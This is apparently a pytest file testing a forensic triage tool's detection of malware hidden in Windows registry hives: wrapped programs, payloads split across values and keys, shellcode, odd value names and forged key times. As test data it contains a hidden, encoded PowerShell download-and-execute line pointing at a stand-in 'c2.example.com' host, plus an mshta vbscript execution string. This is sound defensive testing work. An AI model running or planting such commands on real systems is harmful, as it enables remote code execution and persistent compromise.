"""Stores: payloads in values of every type, under every wrapping, split, hidden, behind texts."""

from __future__ import annotations

import random
from pathlib import Path

import pytest

from tests.content.payloads import PAYLOADS, pe, powershell, shellcode
from tests.content.wrappers import STACKS, WRAPPERS, wrap
from tests.registry.seeds import USER_PATH, Plant, image, locked, looked_at, wide
from triage.analyze import analyze
from triage.model import Report, Severity, Subject

HIGH = Severity.HIGH.points
NAMES = [(name,) for name in WRAPPERS] + list(STACKS)


def judged(folder: Path, plants: list[Plant]) -> Report:
    return analyze(looked_at(image(folder, {USER_PATH: plants})))


def subject(report: Report, key: str) -> Subject:
    """The worst subject of a key."""
    found = [s for s in report.subjects if dict(s.facts)["key"] == f"HKU\\bob\\{key}"]
    assert found, [dict(s.facts)["key"] for s in report.subjects]
    return max(found, key=lambda s: s.score)


@pytest.fixture(scope="module")
def wrapped(tmp_path_factory: pytest.TempPathFactory) -> Report:
    """One hive with a program under every wrapping, each in a key of its own."""
    rng = random.Random(20)
    plants = [
        Plant(f"Software\\W{number}", "v", wrap(pe(rng), names, rng), number % 5)
        for number, names in enumerate(NAMES)
    ]
    return judged(tmp_path_factory.mktemp("wrapped"), plants)


def test_there_are_sixty_stores() -> None:
    assert len(NAMES) >= 60


@pytest.mark.parametrize("number", range(len(NAMES)), ids=[">".join(n) for n in NAMES])
def test_a_wrapped_program_is_found(wrapped: Report, number: int) -> None:
    found = subject(wrapped, f"Software\\W{number}")
    assert found.severity.points >= HIGH
    assert {f.family for f in found.findings} & {"registry-payload"}


@pytest.mark.parametrize("name", sorted(PAYLOADS))
@pytest.mark.parametrize("kind", [0, 1, 3, 4, 7, 11, 0x1234])
def test_a_payload_is_found_whatever_the_type_says(name: str, kind: int, tmp_path: Path) -> None:
    data = PAYLOADS[name](random.Random(3))
    report = judged(tmp_path, [Plant("Software\\X", "v", data, kind)])
    found = subject(report, "Software\\X")
    assert found.score >= 40
    assert dict(found.facts)["type"] is not None


def test_parts_over_values_and_over_keys_are_joined(tmp_path: Path) -> None:
    import base64

    text = base64.b64encode(pe(random.Random(8))).decode()
    parts = [text[at : at + 900] for at in range(0, len(text), 900)]
    plants = [Plant("Software\\P", str(n), part) for n, part in enumerate(parts)]
    plants += [Plant(f"Software\\K\\{n:02d}", "v", part) for n, part in enumerate(parts)]
    report = judged(tmp_path, plants)
    for key in ("Software\\P", "Software\\K"):
        found = subject(report, key)
        assert found.severity is Severity.CRITICAL
        assert {f.indicator for f in found.findings} >= {"registry-split"}
        assert len(str(dict(found.facts)["joined_from"]).split(", ")) == len(parts)


ODD = [
    (Plant("Software\\N", "a\0b", "some text here"), "registry-value-name"),
    (Plant("Software\\N", "‮txt.exe", "some text here"), "registry-value-name"),
    (Plant("Software\\N", "zero\u200bwidth", "some text here"), "registry-value-name"),
    (Plant("Software\\N", " \t ", "some text here"), "registry-value-name"),
    (Plant("Software\\N", "", pe(random.Random(1))), "registry-program"),
    (Plant("Software\\N", "v", pe(random.Random(1)), 4), "registry-type"),
    (Plant("Software\\N", "v", wide("text") + pe(random.Random(1)), 1), "registry-type"),
    (Plant("Software\\N", "v", "x", key={"class_name": wide("Q" * 90)}), "registry-class-name"),
    (Plant("Software\\N", "v", "x", key={"class_name": pe(random.Random(1))}),
     "registry-class-name"),
    (Plant("Software\\N", "v", "x", key={"security": locked()}), "registry-locked"),
    (Plant("Software\\N", "v", "x", key={"written": 10**16}), "registry-time"),
    (Plant("Software\\N", "v", random.Random(2).randbytes(5000)), "registry-opaque"),
    (Plant("Software\\N", "v", "x" * 9000), "registry-large"),
    (Plant("Software\\NetWire", "HostId", "abc"), "registry-family"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("plant", "indicator"), ODD, ids=[f"{i}-{n}" for n, (_, i) in enumerate(ODD)]
)
def test_odd_storage_is_told(plant: Plant, indicator: str, tmp_path: Path) -> None:
    report = judged(tmp_path, [plant])
    assert indicator in {f.indicator for s in report.subjects for f in s.findings}


def test_a_key_with_a_null_in_its_name_is_told(tmp_path: Path) -> None:
    report = judged(tmp_path, [Plant("Software\\a\0b", "v", "some text here")])
    assert "registry-key-name" in {f.indicator for s in report.subjects for f in s.findings}


def test_shellcode_and_scripts_in_class_names_and_small_values(tmp_path: Path) -> None:
    rng = random.Random(4)
    plants = [
        Plant("Software\\S", "v", shellcode(rng)),
        Plant("Software\\T", "v", powershell(rng).decode()),
        Plant("Software\\U", "v", 'mshta vbscript:Execute("CreateObject(1)")(window.close)'),
    ]
    report = judged(tmp_path, plants)
    assert subject(report, "Software\\S").severity.points >= HIGH
    assert subject(report, "Software\\T").score >= 40
    assert subject(report, "Software\\U").score >= 40


def test_pieces_in_a_cipher_of_their_own_are_a_lead(tmp_path: Path) -> None:
    text = (
        pe(random.Random(9)).hex().translate(str.maketrans("0123456789abcdef", "qwertyuiopasdfgh"))
    )
    parts = [text[at : at + 500] for at in range(0, len(text), 500)]
    plants = [Plant("Software\\Q\\bob", str(n), part) for n, part in enumerate(parts)]
    found = subject(judged(tmp_path, plants), "Software\\Q\\bob")
    assert found.severity is Severity.MEDIUM
    assert {f.indicator for f in found.findings} == {"registry-numbered-parts"}


def test_random_bytes_in_base64_are_told_and_lists_are_not(tmp_path: Path) -> None:
    import base64

    listed = b"".join(n.to_bytes(2, "little") + b"Folder\0\0" for n in range(300))
    plants = [
        Plant("Software\\Ra", "v", base64.b64encode(random.Random(4).randbytes(2000)).decode()),
        Plant("Software\\Li", "v", base64.b64encode(listed[:2000]).decode()),
    ]
    report = judged(tmp_path, plants)
    assert {f.indicator for f in subject(report, "Software\\Ra").findings} >= {"registry-opaque"}
    of_list = [f.indicator for s in report.subjects if "\\Li " in s.title for f in s.findings]
    assert "registry-opaque" not in of_list


def test_a_decoded_script_is_shown(tmp_path: Path) -> None:
    import base64

    script = "iex (New-Object Net.WebClient).DownloadString('http://c2.example.com/a')"
    text = base64.b64encode(script.encode("utf-16-le")).decode()
    report = judged(tmp_path, [Plant("Software\\D", "v", f"powershell -nop -w hidden -enc {text}")])
    found = subject(report, "Software\\D")
    assert found.score >= 40
    assert script in str(dict(found.facts)["decoded"])


_SECOND = 10_000_000
_THEN = 133_000_000_000_000_000  # in 2022, on a whole second


def _times(count: int, own: int, step: int) -> list[Plant]:
    """Many keys whose times are ``step`` apart, and one with a time of its own."""
    plants = [
        Plant(f"Software\\N\\k{n}", "v", "x", key={"written": _THEN + 1 + n * step})
        for n in range(count)
    ]
    return [*plants, Plant("Software\\N\\odd", "v", "x", key={"written": own})]


@pytest.mark.parametrize(
    ("own", "step", "told"),
    [
        (_THEN + 5 * _SECOND, 1_234_567, True),  # set by a program
        (_THEN + 5 * _SECOND + 17, 1_234_567, False),
        (_THEN + 5 * _SECOND, 7_777_777_777, True),
    ],
)
def test_a_time_that_was_set_is_a_weak_lead(
    own: int, step: int, told: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from triage.registry import keys

    # The other keys of a hive that a test makes are all written at one time.
    monkeypatch.setattr(keys, "_OFTEN", 2)
    report = judged(tmp_path, _times(60, own, step))
    times = [
        s for s in report.subjects
        if "\\N\\" in s.title and "registry-time" in {f.indicator for f in s.findings}
    ]  # fmt: skip
    assert ["odd" in s.title for s in times] == ([True] if told else [])
    assert all(s.severity is Severity.LOW for s in times)


def test_a_clock_of_milliseconds_is_no_lead(tmp_path: Path) -> None:
    report = judged(tmp_path, _times(60, _THEN + 5 * _SECOND, 10_000))
    assert "registry-time" not in {f.indicator for s in report.subjects for f in s.findings}


def test_a_flood_of_groups_leaves_a_gap(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import base64

    from triage.registry import spread

    monkeypatch.setattr(spread, "_MOST_GROUPS", 3)
    rng = random.Random(3)
    plants = [
        Plant(f"Software\\F{key}", f"p{n}", base64.b64encode(rng.randbytes(60)).decode())
        for key in range(6)
        for n in range(3)
    ]
    snapshot = looked_at(image(tmp_path, {USER_PATH: plants}))
    assert any("groups of values were not tried" in gap.detail for gap in snapshot.gaps)
